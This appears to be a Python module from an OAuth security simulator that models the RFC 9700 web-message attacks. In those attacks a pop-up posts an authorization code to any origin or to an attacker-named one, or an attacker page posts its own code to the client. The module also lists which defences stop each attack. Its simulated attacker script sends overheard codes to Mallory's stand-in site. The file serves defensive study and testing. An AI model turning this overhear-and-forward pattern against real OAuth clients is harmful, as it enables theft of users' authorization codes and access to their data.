"""Answers that are posted from window to window, and who hears and who says them (RFC 9700 §4.17)."""

from __future__ import annotations

from mockserver.authorization_server import web_message
from mockserver.client import pop_up
from mockserver.message import split_url
from mockserver.protocol.parameters import Parameters, encode
from mockserver.resource_owner.script import Window
from oauthsim.attacker import SITE
from oauthsim.attacks.browser.cross_site_request_forgery import CALENDAR
from oauthsim.attacks.crafted import read_calendar, redeem, request
from oauthsim.attacks.goals import alice_is_shown_mallorys_data, reads_alices_data
from oauthsim.attacks.registry import attack
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.authorization_code import connect, press, run_by_hand
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.world import APP, World

CALLBACK = f"{APP}/callback"
STEPS = (
    Step("Alice uses a client that connects in pop-ups, too", request_to("/")),
    Step("Mallory's page opens a window: a request in the name of this client", request_to("/kittens")),
    Step("The page there posts a code to its opener", request_to("/authorize")),
    Step("A script of Mallory's page hears it", request_to("/heard")),
    Step("Mallory redeems it; a public client has no secret", from_to("attacker", "authorization_server")),
    Step("With what she gets she reads Alice's calendar", from_to("attacker", "calendar")),
)
STOPPED_BY = (
    "messages-go-to-the-registered-origin",
    "response-mode-is-the-usual-one",
    "public-clients-are-asked-about-each-time",
)
NO_HELP = (
    "redirect-uri-matches-exactly",
    "pkce-is-required",
    "pages-are-not-framed",
    "client-secret-is-right",
)


@attack(
    "web-message-to-anybody",
    title="Answer posted to any origin",
    spec="RFC 9700 §4.17.1.1",
    catalogue=("ATT-41",),
    goal=reads_alices_data,
    client="public",
    given=("pkce-is-sent", "redirect-uri-is-registered"),
    stopped_by=STOPPED_BY,
    does_not_help=NO_HELP,
    steps=STEPS,
)
def web_message_to_anybody(world: World) -> None:
    """The server's page posts the code to whoever opened its window, and Mallory's page did."""
    overhear(world, request(CALLBACK, response_mode="web_message"))


@attack(
    "web-message-to-a-named-origin",
    title="Answer posted to an origin of the attacker's choice",
    spec="RFC 9700 §4.17.1.2",
    catalogue=("ATT-42",),
    goal=reads_alices_data,
    client="public",
    given=("pkce-is-sent", "redirect-uri-is-registered"),
    stopped_by=STOPPED_BY,
    does_not_help=NO_HELP,
    steps=STEPS,
)
def web_message_to_a_named_origin(world: World) -> None:
    """The server posts the code to the origin that the request names, which is Mallory's request."""
    overhear(world, request(CALLBACK, response_mode="web_message", origin=SITE))


@attack(
    "message-from-anybody",
    title="Answer posted by the attacker",
    spec="RFC 9700 §4.17.1.3",
    catalogue=("ATT-43",),
    goal=alice_is_shown_mallorys_data,
    given=("state-is-sent", "pkce-is-sent"),
    stopped_by=(
        "messages-come-from-an-authorization-server",
        "state-belongs-to-this-session",
        "code-verifier-fits-the-challenge",
    ),
    does_not_help=(
        "messages-go-to-the-registered-origin",
        "redirect-uri-matches-exactly",
        "code-is-single-use",
        "client-secret-is-right",
    ),
    steps=(
        Step("Mallory connects her own calendar, and stops when she has a code", request_to("/")),
        Step("Alice is about to connect hers", from_to("resource_owner", "client")),
        Step("She opens Mallory's page, which opens the client in a window", request_to("/kittens")),
        Step("A script there hears Mallory's code, and takes it for an answer", request_to("/callback")),
        Step("What Alice's client does from now on, it does for Mallory", request_to("/events")),
    ),
)
def message_from_anybody(world: World) -> None:
    """The client's page listens for an answer from its server, and takes one that Mallory's page posts."""
    mallory, browser = world.mallory, world.browser
    mallory.browser.stop_before = CALLBACK
    mallory.browser.open(f"{APP}/")
    mallory.browser.press(CALENDAR)
    mallory.person.answer_pages()
    answer = Parameters.from_query(split_url(mallory.browser.address).query)
    browser.open(f"{APP}/")
    press(world, CALENDAR)
    browser.open(mallory.serve("/kittens", "<h1>Kittens</h1><script src='/kittens.js'></script>"))
    browser.run_script(lambda window: window.open(f"{APP}/"))
    browser.run_script(lambda window: window.post_to_popup(answer, "*"))
    assert browser.popup is not None, "it was opened just now"
    browser.popup.run_script(lambda window: pop_up.hear(world.client, window))
    browser.open(f"{APP}/")
    run_by_hand(world, "Show today's events")


def overhear(world: World, url: str) -> None:
    """Let Mallory's page open `url` in a window, and pass on what is posted from there."""
    connect(world, "Calendar")
    browser = world.browser
    browser.open(world.mallory.serve("/kittens", "<h1>Kittens</h1><script src='/kittens.js'></script>"))
    browser.run_script(lambda window: window.open(url))
    assert browser.popup is not None, "it was opened just now"
    browser.popup.run_script(web_message.post)  # a page that asks Alice something has no such script
    if not browser.run_script(pass_on):
        raise Stopped("Mallory's page hears nothing")
    read_calendar(world, redeem(world, CALLBACK))


def pass_on(window: Window) -> bool:
    """Script of Mallory's page: tell her what was posted to it; whether anything was."""
    for posted in window.messages:
        window.fetch(f"{SITE}/heard?{encode(posted.data)}")
    return bool(window.messages)
